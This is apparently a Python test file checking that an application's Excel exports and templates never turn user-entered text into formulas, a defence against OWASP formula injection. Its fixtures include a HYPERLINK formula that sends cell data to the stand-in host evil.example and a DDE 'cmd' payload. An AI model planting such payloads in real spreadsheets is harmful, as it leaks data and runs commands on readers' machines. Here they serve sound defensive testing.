"""Nothing a person typed becomes a formula in a workbook chuding writes (OWASP's formula
injection): every workbook is opened again and no cell holds a formula from data."""

from __future__ import annotations

import copy
from io import BytesIO
from pathlib import Path

import sqlalchemy as sa
from openpyxl import load_workbook

from states.values import Event
from tests.support.helpers import NOTICE, OPINION, PAPER_ITEMS, bj, engineer
from tests.support.rules import to_publicity
from tests.support.world import World
from workflow.documents.produce import confirmed_list
from workflow.reads.export import export_cases

NAME = '=HYPERLINK("http://evil.example/?"&D2,"点击")'
SPECIALTY = "+1+cmd|' /C calc'!A0"


def _formulas(data: bytes | Path) -> list[str]:
    book = load_workbook(BytesIO(data) if isinstance(data, bytes) else data)
    return [f"{sheet.title}!{cell.coordinate}={cell.value}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_no_workbook_chuding_writes_holds_a_formula_from_data(engine: sa.Engine, tmp_path: Path) -> None:
    record = copy.deepcopy(engineer())
    record["applicant"]["name"] = NAME
    record["specialty"] = SPECIALTY
    world = World(engine)
    world.import_([record])
    to_publicity(world, 1)
    world.run(1, Event.START_PUBLICITY, "water", bj(2024, 10, 9, 10))
    world.run(1, Event.CLOSE_PUBLICITY, "water", bj(2024, 10, 16), opinion=OPINION)
    world.run(1, Event.RECEIVE_PAPER, "paper", bj(2024, 10, 24, 11), items=PAPER_ITEMS, form_code=world.form_code(1))
    world.run(1, Event.CONFIRM, "approver", bj(2024, 10, 25, 10))

    export = tmp_path / "cases.xlsx"
    export_cases(engine, "admin", export, full_ids=True)
    listed = confirmed_list(engine, "approver", "luntai-2024", bj(2024, 10, 26), as_excel=True).data
    assert _formulas(export) == [] and _formulas(listed) == []
    # The text is kept as typed: a clerk sees exactly what the applicant gave.
    assert load_workbook(export)["申报"]["C2"].value == NAME
    assert [c.value for c in load_workbook(BytesIO(listed)).active[2]][1] == NAME


def test_the_template_s_texts_from_the_notice_are_never_formulas(tmp_path: Path) -> None:
    from dataclasses import replace

    from workflow.inputs.workbook import write_template

    shown = replace(NOTICE, series_choices=("=1+1", "@SUM(A1)", *(f"系列{n}" for n in range(60))))
    path = tmp_path / "template.xlsx"
    write_template(path, shown)
    assert _formulas(path) == []
